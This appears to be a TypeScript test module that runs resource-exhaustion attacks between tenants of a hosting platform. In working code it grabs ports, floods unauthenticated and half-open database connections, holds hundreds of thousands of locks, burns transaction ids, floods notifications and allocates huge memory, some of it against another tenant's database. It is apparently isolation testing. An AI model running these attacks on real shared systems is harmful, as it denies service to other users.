// Attacks of one organisation on resources that tenants share: ports, connections, lock tables, transaction ids,
// memory, and the event loop of the site agent.
import net from 'node:net';
import tls from 'node:tls';
import { writeStartup } from '@drydock/agent/host';
import pg from 'pg';
import { z } from 'zod';

export const greedySetupSchema = z.object({
  kind: z.literal('greedy'),
  /** The URLs of sites whose application is {@link slowApp}. */
  appUrls: z.array(z.string()),
  /** The databases of the organisation's sites. */
  databaseUrls: z.array(z.string()),
  /** The managed database of the organisation. */
  ownDatabaseUrl: z.string(),
  /** The address of another organisation's managed database. The attacker can connect there but not log in. */
  othersAddress: z.object({ host: z.string(), port: z.int() }),
});
export type GreedySetup = z.infer<typeof greedySetupSchema>;

/**
 * The address from which the attacks on another organisation's database connect. The owner of that database connects
 * from another address, because the database agent divides its connections among client addresses.
 */
const from = '127.0.0.9';
const visitors = 300;
const protocol = 0x3_0000;
const holdMs = 20_000;

/**
 * The code of an application that takes all free ports from 20000 to 32767, opens connections to the database without
 * logging in, and answers each request endlessly in chunks of one byte.
 */
export const slowApp = `const net = require('net'), http = require('http');
  const own = [];
  for (let port = 20000; port < 32768; port += 1) own.push(net.createServer().on('error', () => undefined).listen(port));
  const { hostname: host, port } = new URL(process.env.DATABASE_URL);
  const startup = Buffer.concat([Buffer.from([0, 0, 0, 23, 0, 3, 0, 0]), Buffer.from('user\\0postgres\\0\\0')]);
  setInterval(() => {
    for (let n = 0; n < 40; n += 1) net.connect(port, host, function () { this.write(startup); }).on('error', () => undefined);
  }, 1000);
  http.createServer((request, answer) => {
    answer.write('slow ');
    const drip = () => { for (let n = 0; n < 64; n += 1) answer.write('x'); };
    const dripping = setInterval(drip, 1);
    answer.on('close', () => clearInterval(dripping));
  }).listen(3000);`;

/** Resolves when the connection ends, or after {@link holdMs}. */
function hold(socket: net.Socket): Promise<string> {
  return new Promise((resolve) => {
    const timer = setTimeout(() => socket.destroy(), holdMs);
    socket.on('error', () => undefined).resume();
    socket.once('close', () => {
      clearTimeout(timer);
      resolve('closed');
    });
  });
}

/**
 * Runs the statements in one session. Resolves with `done`, with the SQLSTATE of the error that ended the session, or
 * with `closed`.
 */
async function inSession(connectionString: string, statements: readonly string[], isSecure = false): Promise<string> {
  const client = new pg.Client({ connectionString, ssl: isSecure && { rejectUnauthorized: false } });
  client.on('error', () => undefined);
  try {
    await client.connect();
    for (const statement of statements) await client.query(statement);
    return 'done';
  } catch (error) {
    return error instanceof pg.DatabaseError ? (error.code ?? 'failed') : 'closed';
  } finally {
    await client.end().catch(() => undefined);
  }
}

const spendIds = `DO $$ BEGIN FOR i IN 1..200000 LOOP BEGIN PERFORM pg_current_xact_id(); EXCEPTION WHEN OTHERS THEN NULL; END; COMMIT; END LOOP; END $$`;

/** The attacks. Each runs `times` times at once, and a run that ends is started again. */
export const greedyAttacks: Readonly<
  Record<string, { times: number; once(setup: GreedySetup, n: number): Promise<string> }>
> = {
  'visitors of a slow application': {
    times: visitors,
    once: async ({ appUrls }, n) => {
      const url = new URL(appUrls[n % appUrls.length] ?? '');
      const socket = net.connect(Number(url.port), url.hostname);
      socket.write('GET / HTTP/1.1\r\nHost: slow\r\n\r\n');
      return hold(socket);
    },
  },
  'locks without end': {
    times: 6,
    once: ({ databaseUrls }) =>
      inSession(databaseUrls[0] ?? '', [
        'SELECT count(pg_advisory_lock(n)) FROM generate_series(1, 400000) n',
        'SELECT pg_sleep(5)',
      ]),
  },
  'transaction ids without end': { times: 2, once: ({ databaseUrls }) => inSession(databaseUrls[1] ?? '', [spendIds]) },
  'a listener that is stuck': {
    times: 1,
    once: ({ databaseUrls }) => inSession(databaseUrls[1] ?? '', ['LISTEN heard', 'BEGIN', 'SELECT pg_sleep(20)']),
  },
  'notices to it': {
    times: 2,
    once: ({ databaseUrls }) =>
      inSession(databaseUrls[1] ?? '', [
        `DO $$ BEGIN FOR i IN 1..2000 LOOP PERFORM pg_notify('heard', i || repeat('x', 7000)); END LOOP; END $$`,
      ]),
  },
  'sessions that never log in': {
    times: 40,
    once: async ({ databaseUrls }, n) => {
      const url = new URL(databaseUrls[n % databaseUrls.length] ?? '');
      const socket = net.connect(Number(url.port), url.hostname);
      socket.write(
        writeStartup(
          protocol,
          new Map([
            ['user', url.username],
            ['database', 'site'],
          ]),
        ),
      );
      return hold(socket);
    },
  },
  'sessions whose client has gone': {
    times: 20,
    once: async ({ databaseUrls }, n) => {
      const client = new pg.Client({ connectionString: databaseUrls[n % databaseUrls.length] ?? '' });
      client.on('error', () => undefined);
      await client.connect();
      client.query('SELECT pg_sleep(3600)').catch(() => undefined);
      await new Promise((resolve) => setTimeout(resolve, 100));
      (client as unknown as { connection: { stream: net.Socket } }).connection.stream.destroy();
      return 'gone';
    },
  },
  'made-up users': {
    times: 120,
    once: async ({ othersAddress }) => {
      const raw = net.connect({ ...othersAddress, localAddress: from });
      const closed = hold(raw);
      raw.write(Buffer.from([0, 0, 0, 8, 4, 210, 22, 47]));
      raw.once('data', () => {
        const secure = tls.connect({ socket: raw, rejectUnauthorized: false }, () =>
          secure.write(
            writeStartup(
              protocol,
              new Map([
                ['user', 'nobody'],
                ['database', 'app'],
              ]),
            ),
          ),
        );
        secure.on('error', () => undefined);
      });
      return closed;
    },
  },
  'silent connections': {
    times: 500,
    once: ({ othersAddress }) => hold(net.connect({ ...othersAddress, localAddress: from })),
  },
  'memory of a session': {
    times: 2,
    once: ({ ownDatabaseUrl }) => inSession(ownDatabaseUrl, ["SELECT length(repeat('x', 1000000000))"], true),
  },
};
